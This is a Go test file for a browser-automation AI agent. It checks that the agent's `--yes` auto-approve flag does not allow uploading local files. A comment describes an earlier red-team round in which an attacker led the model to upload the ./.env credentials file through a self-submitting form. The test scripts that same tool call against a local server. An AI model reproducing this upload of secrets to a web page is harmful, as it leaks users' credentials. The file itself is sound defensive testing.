@@ -1,0 +1,96 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/browseragent/browseragent/agent/llmtest"
+	"github.com/browseragent/browseragent/browser"
+	"github.com/browseragent/browseragent/internal/testutil"
+)
+
+// devtoolsRunEnv is a binEnv for `run` with the scripted LLM srv and the
+// default chrome-devtools-mcp (from the warmed npx cache under the
+// person's HOME), saving into an output folder of the test's own.
+func devtoolsRunEnv(t *testing.T, srv *llmtest.Server) *binEnv {
+	t.Helper()
+	testutil.Require(t, "chromium", browser.FindChrome)
+	testutil.RequireProgram(t, "npx")
+	e := newBinEnv(t, "OPENAI_API_KEY=", "OPENAI_BASE_URL="+srv.URL, "BROWSERAGENT_MODEL=test-model", "BROWSERAGENT_PROVIDER=",
+		"BROWSERAGENT_DISCOVER=0", npxInit)
+	e.env = append(e.env, "BROWSERAGENT_OUTPUT_DIR="+filepath.Join(e.dir, "out"))
+	return e
+}
+
+// uidOf finds the chrome-devtools-mcp uid of the snapshot line matching re.
+func uidOf(re *regexp.Regexp, snapshot string) string {
+	for _, line := range strings.Split(snapshot, "\n") {
+		if re.MatchString(line) {
+			if m := regexp.MustCompile(`uid=(\S+)`).FindStringSubmatch(line); m != nil {
+				return m[1]
+			}
+		}
+	}
+	return ""
+}
+
+// TestRunYesDoesNotUploadLocalFiles: `run --yes` approves writes on
+// ordinary pages, and nothing more. Round three's attacker had the model
+// call chrome-devtools-mcp's upload_file with ./.env on a page whose form
+// sends the chosen file at once: --yes approved it and the page's server
+// received the keys. A file read asks a person every time; with nobody to
+// ask it is refused, and the server receives nothing.
+func TestRunYesDoesNotUploadLocalFiles(t *testing.T) {
+	t.Parallel()
+	got := make(chan string, 4)
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == http.MethodPost {
+			body, _ := io.ReadAll(r.Body)
+			got <- string(body)
+		}
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, `<!doctype html><title>Apply</title><h1>Send us your CV</h1>
+<form method="post" enctype="multipart/form-data" action="/cv"><label>CV <input type="file" name="cv" onchange="this.form.submit()"></label></form>`)
+	}))
+	t.Cleanup(ts.Close)
+	fileInput := regexp.MustCompile(`button "CV"`)
+	srv := llmtest.New(t,
+		llmtest.Rule{When: llmtest.LastUser("upload"), Reply: llmtest.Call("browser_open", `{"url":"`+ts.URL+`/"}`)},
+		llmtest.Rule{When: llmtest.AfterCall("browser_open"), Reply: llmtest.Call("mcp__chrome-devtools__take_snapshot", `{}`)},
+		llmtest.Rule{When: llmtest.AfterCall("mcp__chrome-devtools__take_snapshot"), Do: func(r llmtest.Request) llmtest.Reply {
+			uid := uidOf(fileInput, r.Last().Content)
+			if uid == "" {
+				return llmtest.Text("no file input in: " + r.Last().Content)
+			}
+			return llmtest.Call("mcp__chrome-devtools__upload_file", `{"uid":"`+uid+`","filePaths":["./.env"]}`)
+		}},
+		llmtest.Rule{When: llmtest.AfterCall("mcp__chrome-devtools__upload_file"), Do: func(r llmtest.Request) llmtest.Reply {
+			return llmtest.Text("upload: " + r.Last().Content)
+		}},
+	)
+	e := devtoolsRunEnv(t, srv)
+	if err := os.WriteFile(filepath.Join(e.dir, ".env"), []byte("API_KEY=sk-live-0123456789\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	code, stdout, stderr := e.run(t, "", "run", "--yes", "--json", "upload ./.env at "+ts.URL+"/ with chrome-devtools")
+	var tr transcript
+	if err := json.Unmarshal([]byte(stdout), &tr); err != nil {
+		t.Fatalf("exit %d, stdout %q: %v\nstderr:\n%s", code, stdout, err, stderr)
+	}
+	select {
+	case body := <-got:
+		t.Errorf("--yes sent ./.env to the page's server:\n%s", body)
+	default:
+	}
+	if !strings.HasPrefix(tr.Answer, "upload: ") || !strings.Contains(tr.Answer, "reads ") || !strings.Contains(tr.Answer, "--yes never covers") {
+		t.Errorf("the model was not told the upload was refused and why: %q\nstderr:\n%s", tr.Answer, stderr)
+	}
+}
